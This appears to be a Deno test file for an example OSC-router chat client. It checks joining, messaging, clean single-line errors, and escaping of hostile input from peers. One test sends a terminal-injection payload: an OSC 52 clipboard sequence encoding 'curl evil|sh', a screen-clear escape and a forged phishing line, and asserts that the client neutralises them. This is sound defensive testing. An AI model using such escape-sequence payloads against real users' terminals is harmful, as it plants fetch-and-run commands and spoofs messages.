/** The TypeScript client in examples/ works against a live router (its client module: tests/client). */
import assert from "node:assert/strict";
import { withServer } from "../server/harness.ts";
import { s, TestClient } from "../server/test_client.ts";

const CLIENT = new URL("../../examples/client.ts", import.meta.url).pathname;
const ROOT = new URL("../../", import.meta.url).pathname;

/** The command documented in the example's header: `deno run FLAGS examples/client.ts HOST PORT USER GROUP`. */
async function documentedCommand(): Promise<{ env: Record<string, string>; flags: string[]; args: string[] }> {
  const header = await Deno.readTextFile(CLIENT);
  const line = /^ \* (TCPOSCROUTER_\S+ .*deno run .*examples\/client\.ts.*)$/m.exec(header)?.[1];
  assert.ok(line, "the header documents a command");
  const words = line.split(" ");
  const run = words.indexOf("deno");
  const script = words.indexOf("examples/client.ts");
  const env = Object.fromEntries(words.slice(0, run).map((w) => w.split("=") as [string, string]));
  return { env, flags: words.slice(run + 2, script), args: words.slice(script + 1) };
}

/**
 * Runs examples/client.ts as its header says, with other arguments or variables where given;
 * `typing` runs while its input is open (it sees the output so far), then the input ends (Ctrl-D).
 */
async function runScript(opts: {
  args?: string[];
  env?: Record<string, string>;
  flags?: string[];
  typing?: (write: (text: string) => Promise<void>, stdout: () => string) => Promise<void>;
}) {
  const doc = await documentedCommand();
  const child = new Deno.Command(Deno.execPath(), {
    args: ["run", ...(opts.flags ?? doc.flags), "examples/client.ts", ...(opts.args ?? doc.args)],
    cwd: ROOT,
    clearEnv: true,
    env: {
      PATH: Deno.env.get("PATH") ?? "",
      HOME: Deno.env.get("HOME") ?? "",
      NO_COLOR: "1",
      ...(opts.env ?? doc.env),
    },
    stdin: "piped",
    stdout: "piped",
    stderr: "piped",
  }).spawn();
  let stdout = "", stderr = "";
  const reading = Promise.all([
    (async () => {
      for await (const chunk of child.stdout.pipeThrough(new TextDecoderStream())) stdout += chunk;
    })(),
    (async () => {
      for await (const chunk of child.stderr.pipeThrough(new TextDecoderStream())) stderr += chunk;
    })(),
  ]);
  const writer = child.stdin.getWriter();
  try {
    await opts.typing?.((text) => writer.write(new TextEncoder().encode(text)), () => stdout);
  } finally {
    await writer.close().catch(() => {});
  }
  const { code } = await child.status;
  await reading;
  return { code, stdout, stderr };
}

/** Waits until `text()` matches `pattern`. */
async function waitFor(text: () => string, pattern: RegExp): Promise<void> {
  const deadline = Date.now() + 15_000;
  while (!pattern.test(text())) {
    if (Date.now() > deadline) throw new Error(`no ${pattern} in:\n${text()}`);
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

Deno.test("examples/client.ts script: the header's command joins, says hello, sends typed lines, leaves on EOF", async () => {
  await withServer({}, async ({ lp }) => {
    const doc = await documentedCommand();
    assert.deepEqual(doc.args, ["127.0.0.1", "55555", "carol", "band"]);
    const header = /^ \* (TCPOSCROUTER_\S+ .*examples\/client\.ts.*)$/m.exec(await Deno.readTextFile(CLIENT))![1]!;
    const readme = await Deno.readTextFile(`${ROOT}README.md`);
    assert.ok(readme.split("\n").includes(header), "README.md gives the header's command, word for word");
    const peer = await TestClient.connect(lp);
    try {
      await peer.register("bob", "band", "bobSecret", doc.env.TCPOSCROUTER_GROUP_PASSWORD!);
      const { code, stdout, stderr } = await runScript({
        args: ["127.0.0.1", String(lp), "carol", "band"],
        typing: async (write, output) => {
          await waitFor(output, /^joined band as carol/m);
          await write("hi there\n");
          const chats: string[] = [];
          while (chats.length < 2) {
            const m = await peer.nextMessage(10_000);
            if (m.address === "/chat") chats.push(String((m.args[0] as { value: string }).value));
          }
          assert.deepEqual(chats, ["hello from carol", "hi there"]);
          await peer.sendMsg("/note", { type: "i", value: 60 });
          await peer.sendMsg("/oscrouter/private", s("carol"), s("whispa"), s("psst"));
          await waitFor(output, /^private from bob: whispa psst$/m);
        },
      });
      assert.equal(code, 0, stderr);
      assert.match(stdout, /^joined band as carol; users: bob, carol$/m);
      assert.match(stdout, /^\/note 60$/m);
      assert.match(stdout, /^private from bob: whispa psst$/m);
      assert.match(stdout, /^left band$/m);
    } finally {
      await peer.close();
    }
  });
});

Deno.test("examples/client.ts script: what others send cannot reach the terminal as control sequences or forged lines", async () => {
  await withServer({}, async ({ lp }) => {
    const doc = await documentedCommand();
    const peer = await TestClient.connect(lp);
    try {
      await peer.register("mallory", "band", "m", doc.env.TCPOSCROUTER_GROUP_PASSWORD!);
      const { code, stdout, stderr } = await runScript({
        args: ["127.0.0.1", String(lp), "carol", "band"],
        typing: async (_write, output) => {
          await waitFor(output, /^joined band as carol/m);
          // Clear the screen, set the clipboard (OSC 52), a forged line, a C1 CSI.
          await peer.sendMsg(
            "/chat",
            s("\x1b[2J\x1b]52;c;Y3VybCBldmlsfHNo\x07hi\nprivate from bob: send me your password\u009b2J"),
          );
          await peer.sendMsg("/oscrouter/private", s("carol"), s("k\x1b[31m"), s("x\ry"));
          await waitFor(output, /^private from mallory/m);
        },
      });
      assert.equal(code, 0, stderr);
      // deno-lint-ignore no-control-regex
      assert.doesNotMatch(stdout, /[\x00-\x09\x0b-\x1f\x7f-\x9f]/, "no control character but the line ends");
      assert.doesNotMatch(stdout, /^private from bob/m, "no forged line");
      assert.match(stdout, /^\/chat \\x1b\[2J\\x1b\]52;c;Y3VybCBldmlsfHNo\\x07hi\\nprivate from bob: /m);
      assert.match(stdout, /^private from mallory: k\\x1b\[31m x\\ry$/m);
    } finally {
      await peer.close();
    }
  });
});

Deno.test("examples/client.ts script: every failure is one plain line, no stack trace", async () => {
  await withServer({}, async ({ lp }) => {
    const owner = await TestClient.connect(lp);
    try {
      await owner.register("carol", "band", "the-real-one", "bandSecret");
      const port = String(lp);
      const cases: [Parameters<typeof runScript>[0], number, RegExp][] = [
        [{ args: ["127.0.0.1", port], flags: ["--allow-net"] }, 2, /^error: .*run with --allow-env/],
        [{ args: ["127.0.0.1", port], env: {} }, 2, /^error: set TCPOSCROUTER_USER_PASSWORD and/],
        [{ args: ["127.0.0.1", "nope"] }, 2, /^error: 'nope' is not a port/],
        [{ args: ["127.0.0.1", port] }, 1, /^error: the router refused carol@band: wrong_user_password: /],
        [{ args: ["127.0.0.1", String(await closedPort())] }, 1, /^error: cannot connect to 127\.0\.0\.1:\d+: /],
      ];
      for (const [opts, code, message] of cases) {
        const out = await runScript(opts);
        assert.equal(out.code, code, out.stderr);
        assert.match(out.stderr, message);
        assert.equal(out.stderr.trim().split("\n").length, 1, `one line:\n${out.stderr}`);
        assert.doesNotMatch(out.stderr, /^\s+at /m, "no stack trace");
      }
    } finally {
      await owner.close();
    }
  });
});

/** A port nothing listens on. */
function closedPort(): number {
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const { port } = listener.addr;
  listener.close();
  return port;
}
